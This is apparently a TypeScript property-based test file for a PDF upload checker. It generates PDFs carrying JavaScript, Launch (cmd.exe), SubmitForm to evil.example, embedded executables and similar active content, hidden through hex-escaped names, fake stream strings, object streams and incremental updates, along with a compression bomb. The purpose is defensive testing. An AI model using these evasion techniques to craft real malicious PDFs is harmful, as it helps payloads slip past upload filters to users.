import fc from "fast-check";
import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { inspectUpload, UploadRefused } from "./inspect";
import { checkPdfObjects } from "./pdf-objects";
import { checkPdf } from "./structure";

/**
 * Issue 12, point 3: generated PDFs that hide an action in each place a PDF allows, stored in each
 * way a PDF allows. Every one must be refused by the upload check; its twin with a harmless link
 * in the same place must be accepted (so the check is not "refuse everything").
 */
type Danger = "javascript" | "launch" | "submitForm" | "goToR" | "importData" | "embeddedFiles" | "xfa" | "richMedia";
type Place = "openAction" | "catalogAA" | "pageAA" | "annotA" | "annotAA" | "namesTree";
type Storage = "plain" | "betweenFakeStreamStrings" | "objStmFlate" | "objStmPlain" | "objStmFarFromHeader" | "incrementalUpdate";

/** Writes some letters of a name as #xx, as a PDF allows: /Java#53cript is /JavaScript. */
function spell(name: string, mask: number): string {
  return [...name].map((c, i) => ((mask >> i % 30) & 1 ? `#${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0")}` : c)).join("");
}

function action(danger: Danger | "harmless", n: (s: string) => string): string {
  switch (danger) {
    case "javascript": return `<< /${n("S")} /${n("JavaScript")} /${n("JS")} (app.alert\\(1\\)) >>`;
    case "launch": return `<< /S /${n("Launch")} /F (cmd.exe) >>`;
    case "submitForm": return `<< /S /${n("SubmitForm")} /F (https://evil.example/collect) >>`;
    case "goToR": return `<< /S /${n("GoToR")} /F (other.pdf) /D [0 /Fit] >>`;
    case "importData": return `<< /S /${n("ImportData")} /F (data.fdf) >>`;
    // Not actions, but what a catalog or an annotation may carry instead.
    case "embeddedFiles": return `<< /S /URI /URI (https://idarti.tn) /${n("EmbeddedFiles")} << /Names [(a.exe) 9 0 R] >> >>`;
    case "xfa": return `<< /S /URI /URI (https://idarti.tn) /${n("XFA")} 9 0 R >>`;
    case "richMedia": return `<< /S /URI /URI (https://idarti.tn) /Subtype /${n("RichMedia")} >>`;
    case "harmless": return `<< /S /URI /URI (https://idarti.tn/stream/endstream) >>`;
  }
}

type Case = { danger: Danger | "harmless"; place: Place; storage: Storage; mask: number; padding: number; noise: string };

/** The objects of the file: 1 catalog, 2 pages, 3 page, 4 annotation, 5 the names tree's target. */
function objects(c: Case): Map<number, string> {
  const n = (s: string) => spell(s, c.mask);
  const act = action(c.danger, n);
  const fake = c.storage === "betweenFakeStreamStrings";
  const wrap = (entry: string) => (fake ? `/Z1 (stream\n${c.noise}) ${entry} /Z2 (${c.noise}endstream)` : entry);
  const at = (p: Place, entry: string) => (c.place === p ? wrap(entry) : "");
  const names = c.place === "namesTree" ? wrap(`/Names << /${c.danger === "harmless" ? "Dests" : n("JavaScript")} << /Names [(x) 5 0 R] >> >>`) : "";
  return new Map([
    [1, `<< /Type /Catalog /Pages 2 0 R ${at("openAction", `/OpenAction ${act}`)} ${at("catalogAA", `/AA << /WC ${act} >>`)} ${names} >>`],
    [2, `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`],
    [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] ${at("pageAA", `/AA << /O ${act} >>`)} >>`],
    [4, `<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] ${at("annotA", `/A ${act}`)} ${at("annotAA", `/AA << /E ${act} >>`)} >>`],
    [5, c.place === "namesTree" ? act : `<< /S /URI /URI (https://idarti.tn) >>`],
  ]);
}

/** The object that holds the hidden thing. */
function holder(place: Place): number {
  return place === "openAction" || place === "catalogAA" || place === "namesTree" ? (place === "namesTree" ? 5 : 1) : place === "pageAA" ? 3 : 4;
}

function buildPdf(c: Case): Buffer {
  const objs = objects(c);
  const hidden = holder(c.place);
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const plain = (num: number, body: string) => Buffer.from(`${num} 0 obj\n${body}\nendobj\n`, "latin1");
  const inObjStm = c.storage.startsWith("objStm");
  for (const [num, body] of objs) {
    if (inObjStm && num === hidden) continue;
    if (c.storage === "incrementalUpdate" && num === hidden) parts.push(plain(num, objects({ ...c, danger: "harmless" }).get(num)!));
    else parts.push(plain(num, body));
  }
  if (inObjStm) {
    const body = Buffer.from(objs.get(hidden)!, "latin1");
    const header = `${hidden} 0 `;
    const data = Buffer.concat([Buffer.from(header, "latin1"), body]);
    const flate = c.storage !== "objStmPlain";
    const content = flate ? deflateSync(data) : data;
    // Far from its header: the /Type comes first, then a long string, then the stream.
    const far = c.storage === "objStmFarFromHeader" ? ` /Pad (${"x".repeat(600 + c.padding)})` : "";
    parts.push(Buffer.from(`6 0 obj\n<< /Type /ObjStm${far} /N 1 /First ${header.length}${flate ? " /Filter /FlateDecode" : ""} /Length ${content.length} >>\nstream\n`, "latin1"), content, Buffer.from("\nendstream\nendobj\n", "latin1"));
  }
  parts.push(Buffer.from(`trailer\n<< /Root 1 0 R /Size 7 >>\n`, "latin1"));
  // An incremental update: the same object again, later in the file; a reader may use either.
  if (c.storage === "incrementalUpdate") parts.push(plain(hidden, objs.get(hidden)!), Buffer.from(`trailer\n<< /Root 1 0 R /Size 7 >>\n`, "latin1"));
  parts.push(Buffer.from("%%EOF\n", "latin1"));
  return Buffer.concat(parts);
}

const dangers: Danger[] = ["javascript", "launch", "submitForm", "goToR", "importData", "embeddedFiles", "xfa", "richMedia"];
const places: Place[] = ["openAction", "catalogAA", "pageAA", "annotA", "annotAA", "namesTree"];
const storages: Storage[] = ["plain", "betweenFakeStreamStrings", "objStmFlate", "objStmPlain", "objStmFarFromHeader", "incrementalUpdate"];
const caseArb = (danger: fc.Arbitrary<Danger | "harmless">) =>
  fc.record({
    danger,
    place: fc.constantFrom(...places),
    storage: fc.constantFrom(...storages),
    mask: fc.integer({ min: 0, max: 2 ** 30 - 1 }),
    padding: fc.integer({ min: 0, max: 3000 }),
    noise: fc.string({ unit: fc.constantFrom("a", " ", "/", "0", "%"), maxLength: 20 }),
  });

export const FUZZ_RUNS = 1500;

describe("PDF uploads: the parser finds an action wherever a PDF can hide it (fast-check)", () => {
  it("the report's two walk-arounds are refused", async () => {
    for (const storage of ["betweenFakeStreamStrings", "objStmFarFromHeader"] as const) {
      const pdf = buildPdf({ danger: "javascript", place: "openAction", storage, mask: 0, padding: 0, noise: "" });
      // The byte scan alone let them through (issue 12)…
      expect(checkPdf(pdf)).toEqual({ ok: true });
      // …the upload check does not.
      await expect(inspectUpload(pdf, { name: "facture.pdf" })).rejects.toMatchObject({ reason: "activeContent" });
    }
  });

  it(`every generated dangerous PDF is refused (${FUZZ_RUNS} runs); the byte scan alone missed some`, async () => {
    let byteScanMissed = 0;
    await fc.assert(
      fc.asyncProperty(caseArb(fc.constantFrom(...dangers)), async (c) => {
        const pdf = buildPdf(c);
        if (checkPdf(pdf).ok) byteScanMissed++;
        expect(await checkPdfObjects(pdf)).toEqual({ ok: false, reason: "activeContent" });
      }),
      { numRuns: FUZZ_RUNS },
    );
    console.info(`PDF fuzz: ${FUZZ_RUNS} dangerous PDFs refused by the parser; the byte scan alone would have accepted ${byteScanMissed}`);
    expect(byteScanMissed).toBeGreaterThan(0);
  }, 120_000);

  it("every generated harmless twin (a link in the same place, stored the same way) is accepted (500 runs)", async () => {
    await fc.assert(
      fc.asyncProperty(caseArb(fc.constant("harmless" as const)), async (c) => {
        const pdf = buildPdf(c);
        expect(await checkPdfObjects(pdf)).toEqual({ ok: true });
        const inspected = await inspectUpload(pdf, { name: "facture.pdf" }).catch((e: unknown) => e);
        // The byte scan in front may still refuse a twin (it is cruder); the parser never does.
        if (inspected instanceof UploadRefused) expect(["activeContent", "damaged"]).toContain(inspected.reason);
        else expect(inspected).toMatchObject({ mediaType: "application/pdf" });
      }),
      { numRuns: 500 },
    );
  }, 120_000);

  it("a compression bomb in an object stream is refused before it is inflated whole", async () => {
    const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20), { level: 9 });
    const pdf = Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`, "latin1"),
      bomb,
      Buffer.from("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", "latin1"),
    ]);
    expect(await checkPdfObjects(pdf)).toEqual({ ok: false, reason: "tooLarge" });
  });

  it("an encrypted PDF cannot be checked, so it is refused; garbage is damaged", async () => {
    const enc = Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard /V 2 >> >>\n%%EOF\n", "latin1");
    expect(await checkPdfObjects(enc)).toEqual({ ok: false, reason: "activeContent" });
    expect(await checkPdfObjects(Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nendobj\n%%EOF\n", "latin1"))).toMatchObject({ ok: false });
  });
});
